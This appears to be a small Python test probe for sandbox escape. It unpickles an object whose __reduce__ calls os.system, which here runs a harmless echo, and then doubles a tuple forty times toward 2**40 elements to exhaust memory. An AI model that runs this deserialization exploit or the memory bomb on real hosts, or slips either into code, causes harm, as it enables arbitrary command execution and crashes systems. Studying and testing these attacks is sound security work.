"""Unpickles a command for the shell, then a value that grows without end. Success: the command runs."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("echo ESCAPED: a shell runs",)


status = pickle.loads(pickle.dumps(Command()))
if status == 0:
    print("ESCAPED: a shell ran")
# Each step doubles the tuple before it: a few bytes, 2**40 elements.
bomb = b"(I1\nt" + b"\x94"
value = pickle.loads(bomb + b".")
for _ in range(40):
    value = pickle.loads(pickle.dumps(value + value))
